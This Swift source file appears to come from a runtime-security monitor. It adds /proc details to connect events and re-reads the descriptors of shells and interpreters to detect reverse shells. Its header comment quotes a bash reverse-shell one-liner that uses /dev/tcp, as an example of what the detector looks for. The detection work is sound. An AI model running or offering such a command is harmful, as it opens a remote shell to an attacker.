// SPDX-License-Identifier: Apache-2.0
// Adds what /proc says about the connecting process to each connect event, on the connect thread as
// the event is read, and re-reads the descriptors of shells and interpreters that connect, and of the
// shells in the connector's pipeline (its process group). A shell that redirects its own stdio to a
// socket it opened (`exec 3<>/dev/tcp/h/p; exec 0<&3 1>&3 2>&3`) execs nothing afterwards, so only a
// second look at its fds 0-2, a moment after the connect, shows the reverse shell.

import Foundation
import RuntimeWatchCore

public struct ConnectEnrichment: Sendable {
    /// When to look again at a connecting shell's (and its pipeline's shells') descriptors.
    public var rereadDelays: [Duration] = [.milliseconds(50), .milliseconds(500)]
    /// Most re-reads waiting at once; beyond it new ones are skipped and counted as a loss
    /// (source `connect`, cause `reread_limit`): bounded work under a connect storm.
    public var maxPendingRereads = 64
    public var reader = ProcReader()
    private let pending = PendingCounter()

    public init() {}

    /// Completes `record` (a connect gains `process`, read from /proc now, while the connector most
    /// likely still lives), hands it to `outlet`, and schedules the descriptor re-reads.
    /// - Returns: false when the queue was full and dropped the record (counted there).
    @discardableResult
    public func deliver(_ record: EventRecord, to outlet: CaptureOutlet) -> Bool {
        guard case .connect(var connect) = record.event else { return outlet.emit(record) }
        var record = record
        let read = reader.read(pid: connect.pid.rawValue)
        if connect.process == nil, let info = read.info {
            connect.process = info
            record.event = .connect(connect)
        }
        let queued = outlet.emit(record)
        // Services (kind .other) connect all the time and are never a reverse shell's relay.
        guard let info = read.info, ProgramClassifier.kind(of: info) != .other else { return queued }
        guard pending.acquire(limit: maxPendingRereads) else {
            outlet.lose(1, cause: "reread_limit", reason: "descriptor re-read of a connecting shell skipped: \(maxPendingRereads) already pending",
                        time: record.timestamp)
            return queued
        }
        let pid = connect.pid
        let connectorIsShell = ProgramClassifier.isShellOrInterpreter(info)
        // Audit delivers the connect late: by now the connector may already have moved the socket
        // onto its stdio (perl's fdopen, python's dup2). What was just read goes out at once, or the
        // re-reads below would see nothing new and say nothing.
        if connectorIsShell, let fds = info.fds {
            outlet.emit(EventRecord(timestamp: WallClock.nowNanoseconds(), event: .descriptors(DescriptorsEvent(pid: pid, fds: fds))))
        }
        let (delays, reader, pending) = (rereadDelays, reader, pending)
        Task.detached {
            defer { pending.release() }
            var last: [ProcessID: [DescriptorInfo]] = connectorIsShell ? [pid: info.fds ?? []] : [:]
            for delay in delays {
                try? await Task.sleep(for: delay)
                // The connector itself when it is a shell, and the shells of its pipeline (children
                // and siblings in its process group): one of them may be the shell this connection
                // now serves.
                var targets = ProcessGroupMembers.of(pid.rawValue).map { ProcessID($0) }
                if connectorIsShell { targets.insert(pid, at: 0) }
                for target in targets {
                    guard let now = reader.read(pid: target.rawValue).info, let fds = now.fds,
                          target == pid || ProgramClassifier.isShellOrInterpreter(now) else { continue }
                    if fds != last[target] {
                        outlet.emit(EventRecord(timestamp: WallClock.nowNanoseconds(),
                                                event: .descriptors(DescriptorsEvent(pid: target, fds: fds))))
                        last[target] = fds
                    }
                }
            }
        }
        return queued
    }
}

/// A counter with a ceiling, shared by the re-read tasks.
private final class PendingCounter: @unchecked Sendable {
    // @unchecked: `value` is only touched under `lock`.
    private let lock = NSLock()
    private var value = 0
    func acquire(limit: Int) -> Bool { lock.withLock { if value >= limit { return false }; value += 1; return true } }
    func release() { lock.withLock { value -= 1 } }
}
